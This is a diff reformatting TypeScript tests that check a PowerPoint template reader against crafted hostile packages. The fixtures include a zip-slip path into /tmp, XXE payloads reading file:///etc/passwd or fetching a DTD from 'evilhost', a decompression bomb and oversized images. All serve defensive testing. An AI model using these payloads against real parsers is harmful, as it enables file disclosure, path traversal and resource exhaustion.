@@ -45,14 +45,26 @@ async function hostileTemplate(): Promise<Uint8Array> {
     '<p:txBody><a:bodyPr/><a:lstStyle/><a:p><a:r><a:rPr lang="en-US" sz="800"><a:hlinkClick r:id="rIdX3"/></a:rPr><a:t>www.example.com</a:t></a:r></a:p></p:txBody></p:sp>';
   edit(files, MASTER, (x) =>
     x
-      .replace('</p:spTree>', `${pic(91, '<a:blip r:link="rIdX1"/>')}${pic(92, '<a:blip r:embed="rIdX5" r:link="rIdX2"/>')}${link}</p:spTree><p:custDataLst><p:tags r:id="rIdX6"/></p:custDataLst>`)
+      .replace(
+        '</p:spTree>',
+        `${pic(91, '<a:blip r:link="rIdX1"/>')}${pic(92, '<a:blip r:embed="rIdX5" r:link="rIdX2"/>')}${link}</p:spTree><p:custDataLst><p:tags r:id="rIdX6"/></p:custDataLst>`,
+      )
       .replace('</p:sldLayoutIdLst>', '<p:sldLayoutId id="2147483700" r:id="rIdX4"/></p:sldLayoutIdLst>'),
   );
-  files['ppt/tags/tag1.xml'] = strToU8('<?xml version="1.0"?><p:tagLst xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"><p:tag name="X" val="1"/></p:tagLst>');
+  files['ppt/tags/tag1.xml'] = strToU8(
+    '<?xml version="1.0"?><p:tagLst xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"><p:tag name="X" val="1"/></p:tagLst>',
+  );
   files['../../../../tmp/evil-entry.txt'] = strToU8('zip slip');
   files['ppt/media/huge.png'] = new Uint8Array(png({ width: 20_000, height: 20_000, headerOnly: true }));
-  edit(files, LAYOUT_RELS, (x) => x.replace('</Relationships>', `<Relationship Id="rIdH" Type="${REL}/image" Target="../media/huge.png"/></Relationships>`));
-  edit(files, 'ppt/slideLayouts/slideLayout2.xml', (x) => x.replace('</p:spTree>', `${pic(94, '<a:blip r:embed="rIdH"/>')}</p:spTree>`));
+  edit(files, LAYOUT_RELS, (x) =>
+    x.replace(
+      '</Relationships>',
+      `<Relationship Id="rIdH" Type="${REL}/image" Target="../media/huge.png"/></Relationships>`,
+    ),
+  );
+  edit(files, 'ppt/slideLayouts/slideLayout2.xml', (x) =>
+    x.replace('</p:spTree>', `${pic(94, '<a:blip r:embed="rIdH"/>')}</p:spTree>`),
+  );
   return zipSync(files);
 }
 
@@ -64,8 +76,18 @@ function declareSize(zip: Uint8Array, name: string, size: number): Uint8Array {
   for (let i = 0; i + 46 < out.length; i++) {
     const sig = view.getUint32(i, true);
     const at = (offset: number, length: number) => out.subarray(i + offset, i + offset + length);
-    if (sig === 0x04034b50 && view.getUint16(i + 26, true) === encoded.length && at(30, encoded.length).every((b, k) => b === encoded[k])) view.setUint32(i + 22, size, true);
-    if (sig === 0x02014b50 && view.getUint16(i + 28, true) === encoded.length && at(46, encoded.length).every((b, k) => b === encoded[k])) view.setUint32(i + 24, size, true);
+    if (
+      sig === 0x04034b50 &&
+      view.getUint16(i + 26, true) === encoded.length &&
+      at(30, encoded.length).every((b, k) => b === encoded[k])
+    )
+      view.setUint32(i + 22, size, true);
+    if (
+      sig === 0x02014b50 &&
+      view.getUint16(i + 28, true) === encoded.length &&
+      at(46, encoded.length).every((b, k) => b === encoded[k])
+    )
+      view.setUint32(i + 24, size, true);
   }
   return out;
 }
@@ -93,23 +115,35 @@ describe('reading a crafted template', () => {
     expect(names.filter((n) => /tags|huge/.test(n))).toEqual([]);
     expect(names).toContain('ppt/media/image1.png');
     const xml = names.map((n) => strFromU8(info.parts[n]!)).join('\n');
-    for (const gone of ['TargetMode', 'etc/passwd', 'evilhost', 'rIdX', 'rIdH', '<p:tags', '<!DOCTYPE']) expect(xml).not.toContain(gone);
+    for (const gone of ['TargetMode', 'etc/passwd', 'evilhost', 'rIdX', 'rIdH', '<p:tags', '<!DOCTYPE'])
+      expect(xml).not.toContain(gone);
     // The hyperlink's text stays, without the link; the pictures stay as empty pictures; the real logo is untouched.
     expect(xml).toContain('www.example.com');
     expect(xml).toMatch(/<a:blip\/>/);
     expect(info.layouts.length).toBe(6);
-    expect(info.notices.join('\n')).toMatch(/1 zip entry named outside the package is ignored \(\.\.\/\.\.\/\.\.\/\.\.\/tmp\/evil-entry\.txt\)/);
-    expect(info.notices.join('\n')).toMatch(/3 links to outside files or addresses are not carried into the deck.*file:\/\/\/etc\/passwd/);
+    expect(info.notices.join('\n')).toMatch(
+      /1 zip entry named outside the package is ignored \(\.\.\/\.\.\/\.\.\/\.\.\/tmp\/evil-entry\.txt\)/,
+    );
+    expect(info.notices.join('\n')).toMatch(
+      /3 links to outside files or addresses are not carried into the deck.*file:\/\/\/etc\/passwd/,
+    );
     expect(info.notices.join('\n')).toMatch(/2 links to places outside the package are not carried/);
     expect(info.notices.join('\n')).toMatch(/1 picture of more than 40 megapixels is left out.*huge\.png/);
   });
 
   it('refuses a document type declaration in any part it reads (entity expansion, external entities)', async () => {
     const files = unzipSync(await makeTemplate());
-    edit(files, MASTER, (x) => x.replace('<p:sldMaster', '<!DOCTYPE p:sldMaster [<!ENTITY lol "lol"><!ENTITY xxe SYSTEM "file:///etc/passwd">]><p:sldMaster'));
+    edit(files, MASTER, (x) =>
+      x.replace(
+        '<p:sldMaster',
+        '<!DOCTYPE p:sldMaster [<!ENTITY lol "lol"><!ENTITY xxe SYSTEM "file:///etc/passwd">]><p:sldMaster',
+      ),
+    );
     expect(problem(zipSync(files))).toMatch(/document type declaration \(ppt\/slideMasters\/slideMaster1\.xml\)/);
     const themed = unzipSync(await makeTemplate());
-    edit(themed, 'ppt/theme/theme1.xml', (x) => x.replace('<a:theme', '<!DOCTYPE a:theme SYSTEM "http://evilhost/x.dtd"><a:theme'));
+    edit(themed, 'ppt/theme/theme1.xml', (x) =>
+      x.replace('<a:theme', '<!DOCTYPE a:theme SYSTEM "http://evilhost/x.dtd"><a:theme'),
+    );
     expect(problem(zipSync(themed))).toMatch(/document type declaration \(ppt\/theme\/theme1\.xml\)/);
   });
 
@@ -118,9 +152,13 @@ describe('reading a crafted template', () => {
     files['ppt/media/bomb.png'] = new Uint8Array(PACKAGE_LIMITS.partBytes + 1);
     const bomb = zipSync(files);
     expect(bomb.length).toBeLessThan(1024 * 1024);
-    expect(problem(bomb)).toMatch(/holds a part of 64 MB \(ppt\/media\/bomb\.png\); parts of a template are at most 64 MB/);
+    expect(problem(bomb)).toMatch(
+      /holds a part of 64 MB \(ppt\/media\/bomb\.png\); parts of a template are at most 64 MB/,
+    );
     // A theme declared at 100 bytes: only 100 bytes are inflated, which is not a whole theme.
-    expect(problem(declareSize(zipSync(unzipSync(await makeTemplate())), 'ppt/theme/theme1.xml', 100))).toMatch(/not well-formed XML \(ppt\/theme\/theme1\.xml\)/);
+    expect(problem(declareSize(zipSync(unzipSync(await makeTemplate())), 'ppt/theme/theme1.xml', 100))).toMatch(
+      /not well-formed XML \(ppt\/theme\/theme1\.xml\)/,
+    );
   });
 
   it('refuses a package of more entries than any template has, and a slide size PowerPoint cannot show', async () => {
@@ -128,8 +166,12 @@ describe('reading a crafted template', () => {
     for (let i = 0; i <= PACKAGE_LIMITS.entries; i++) files[`customXml/item${i}.xml`] = new Uint8Array();
     expect(problem(zipSync(files))).toMatch(/holds more than 5000 files/);
     const huge = unzipSync(await makeTemplate());
-    edit(huge, 'ppt/presentation.xml', (x) => x.replace(/<p:sldSz [^>]*\/>/, '<p:sldSz cx="2147483647" cy="6858000"/>'));
-    expect(problem(zipSync(huge))).toMatch(/slide size of 2348.5 × 7.5 in; PowerPoint's slides are 1 to 56 inches a side/);
+    edit(huge, 'ppt/presentation.xml', (x) =>
+      x.replace(/<p:sldSz [^>]*\/>/, '<p:sldSz cx="2147483647" cy="6858000"/>'),
+    );
+    expect(problem(zipSync(huge))).toMatch(
+      /slide size of 2348.5 × 7.5 in; PowerPoint's slides are 1 to 56 inches a side/,
+    );
   });
 });
 
@@ -147,7 +189,9 @@ describe('a deck on a crafted template', () => {
     expect(warnings[0]).toMatch(/^clients\/acme\.yaml:\d+:\d+: .*template `assets\/templates\/client\.potx`/);
     const deck = built.deck();
     const files = unzipSync(deck);
-    expect(Object.keys(files).filter((n) => n.includes('..') || n.startsWith('/') || /evil|tags|huge/.test(n))).toEqual([]);
+    expect(Object.keys(files).filter((n) => n.includes('..') || n.startsWith('/') || /evil|tags|huge/.test(n))).toEqual(
+      [],
+    );
     const xml = Object.entries(files)
       .filter(([n]) => /\.(xml|rels)$/.test(n))
       .map(([, d]) => strFromU8(d))
